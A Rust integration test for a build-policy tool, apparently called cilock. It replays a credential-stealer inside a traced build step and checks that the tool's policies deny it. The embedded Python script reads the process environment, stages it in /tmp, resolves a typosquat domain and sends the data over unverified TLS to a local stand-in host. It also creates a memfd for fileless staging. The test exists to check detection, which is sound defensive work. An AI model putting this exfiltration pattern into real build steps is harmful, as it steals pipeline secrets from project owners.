//! A replay of the March 2026 credential-stealer pattern in a traced build
//! step (eBPF backend, real daemon): read /proc/self/environ, write
//! /tmp/runner_collected_*, resolve a typosquat name at a local resolver,
//! connect and TLS to it, stage a payload in a memfd. `cilock verify` with
//! the example policies (examples/policies: the product description's
//! trace-behavioural rules, the network and DNS allow-lists and the
//! suspicious-syscall rule) must deny it with messages naming the process
//! and the evidence, and must pass a clean build step that resolves and
//! connects to allow-listed hosts only.

use std::path::{Path, PathBuf};
use std::process::Command;

use cilock_testkit::*;
use cilock_testkit::{net::*, step::*};

const STEALER: &str = r#"
import os, socket, ssl, struct, sys
DNS, PORT, NAME = sys.argv[1], int(sys.argv[2]), sys.argv[3]

def resolve(name):
    q = struct.pack(">HHHHHH", 0x5151, 0x0100, 1, 0, 0, 0)
    for l in name.split("."):
        q += bytes([len(l)]) + l.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(q, (DNS, 53)); r, _ = u.recvfrom(512); u.close()
    return socket.inet_ntoa(r[-4:])

def tls(name, payload):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = ctx.wrap_socket(socket.create_connection((resolve(name), PORT)), server_hostname=name)
    s.sendall(payload)
    s.close()

if NAME == "clean":
    tls("github.com", b"GET / HTTP/1.0\r\n\r\n")
else:
    env = open("/proc/self/environ", "rb").read()
    path = "/tmp/runner_collected_%d" % os.getpid()
    with open(path, "wb") as f:
        f.write(env)
    stage = os.memfd_create("stage2")
    os.write(stage, b"\x7fELF")
    os.close(stage)
    tls(NAME, open(path, "rb").read()[:512])
    os.remove(path)
print("ok", flush=True)
"#;

fn examples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/policies")
}

/// Signs the example build policy for `pubkey` with a fresh policy key;
/// returns (signed policy, policy public key).
fn signed_policy(dir: &Path, pubkey: &Path) -> (PathBuf, PathBuf) {
    let unsigned = dir.join("policy.json");
    let o = Command::new(python())
        .arg(examples().join("make-policy.py"))
        .args(["--step", "build", "--pubkey"])
        .arg(pubkey)
        .arg("-o")
        .arg(&unsigned)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let (pkey, ppub) = keygen(dir);
    let signed = dir.join("policy.signed.json");
    let o = Command::new(bin("cilock"))
        .args(["sign", "-k"])
        .arg(&pkey)
        .arg("-f")
        .arg(&unsigned)
        .arg("-o")
        .arg(&signed)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "sign: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    (signed, ppub)
}

fn verify(policy: &Path, ppub: &Path, att: &Path, artifact: &Path) -> (i32, String) {
    let o = Command::new(bin("cilock"))
        .args(["verify", "-p"])
        .arg(policy)
        .arg("-k")
        .arg(ppub)
        .arg("-a")
        .arg(att)
        .arg("-f")
        .arg(artifact)
        .output()
        .unwrap();
    (
        o.status.code().unwrap_or(-1),
        format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        ),
    )
}

/// Runs the build step (named `build`) in a fresh workdir: writes the
/// artifact, then runs the Python part with `name`.
fn build_step(
    daemon: &Daemon,
    root: &Path,
    tag: &str,
    name: &str,
    tls_port: u16,
) -> (PathBuf, PathBuf) {
    let w = root.join(tag);
    std::fs::create_dir_all(w.join("dist")).unwrap();
    std::fs::write(w.join("stealer.py"), STEALER).unwrap();
    let script = format!(
        "printf 'release {tag}\\n' > dist/app.bin\n{py} stealer.py 127.0.0.77 {tls_port} {name}\n",
        py = python()
    );
    let att = run_step(daemon, "build", &w, &script);
    (att, w.join("dist/app.bin"))
}

#[test]
fn stealer_replay_is_denied_and_a_clean_build_passes() {
    let work = tempdir();
    let root = work.path();
    let dns_log = root.join("dns.log");
    let _dns = dns_server("127.0.0.77", "127.0.0.88", &dns_log);
    let (cert, key) = self_signed(root, "tls.cilock.test");
    let port = free_port();
    let _tls = tls_server("127.0.0.88", port, &cert, &key, None);
    let daemon = Daemon::start("ebpf");
    let (policy, ppub) = signed_policy(root, &daemon.pubkey);

    // A clean build: allow-listed name, TLS to it: passes.
    let (att, artifact) = build_step(&daemon, root, "clean", "clean", port);
    let (code, text) = verify(&policy, &ppub, &att, &artifact);
    assert_eq!(code, 0, "the clean build must pass:\n{text}");

    // The stealer replay.
    let typo = "scan.aquasecurtiy.org";
    let (att, artifact) = build_step(&daemon, root, "stealer", typo, port);
    assert!(
        dns_log.exists()
            && std::fs::read_to_string(&dns_log)
                .unwrap()
                .contains(&format!("A {typo}"))
    );
    let cr = command_run(&att);
    let py = processes(&cr)
        .into_iter()
        .find(|p| {
            p["cmdline"]
                .as_str()
                .is_some_and(|c| c.contains("stealer.py"))
        })
        .expect("the stealer process");
    let pid = py["processid"].as_i64().unwrap();
    let program = py["program"].as_str().unwrap().to_string();
    let collected = py["openedfiles"]
        .as_object()
        .unwrap()
        .keys()
        .find(|k| k.starts_with("/tmp/runner_collected_"))
        .cloned()
        .expect("the collected file is recorded");

    let (code, text) = verify(&policy, &ppub, &att, &artifact);
    assert_eq!(code, 1, "the stealer replay must be denied:\n{text}");
    let who = format!("process {program} (PID {pid})");
    for want in [
        // The product description's trace-behavioural rules, unchanged.
        format!("Suspicious file access: {who} opened {collected}, matches credential harvesting pattern"),
        format!("Suspicious file access: {who} read /proc/self/environ, environment variable harvesting indicator"),
        // The allow-lists.
        format!("DNS lookup outside the allow-list: {who} resolved {typo} (A) via 127.0.0.77 port 53"),
        format!("Connection outside the allow-list: {who} connect 127.0.0.88 port {port} (TLS server name \"{typo}\")"),
        // The suspicious-syscall rule.
        format!("Forbidden syscall in a build step (fileless execution): {who} called memfd_create"),
    ] {
        assert!(text.contains(&want), "missing denial {want:?} in:\n{text}");
    }
    // The allowed part of the clean build is not what is denied.
    assert!(!text.contains("github.com"), "{text}");
}

#[test]
fn example_policy_json_embeds_the_rego_files() {
    use base64::Engine as _;
    let p: serde_json::Value =
        serde_json::from_slice(&std::fs::read(examples().join("build-step-policy.json")).unwrap())
            .unwrap();
    let mods = p["steps"]["build"]["attestations"][0]["regopolicies"]
        .as_array()
        .unwrap();
    assert_eq!(mods.len(), 4);
    for m in mods {
        let name = m["name"].as_str().unwrap();
        let src = base64::engine::general_purpose::STANDARD
            .decode(m["module"].as_str().unwrap())
            .unwrap();
        let file = std::fs::read(examples().join(format!("{name}.rego"))).unwrap();
        assert_eq!(
            src, file,
            "{name}.rego differs from build-step-policy.json (rerun make-policy.py)"
        );
    }
}
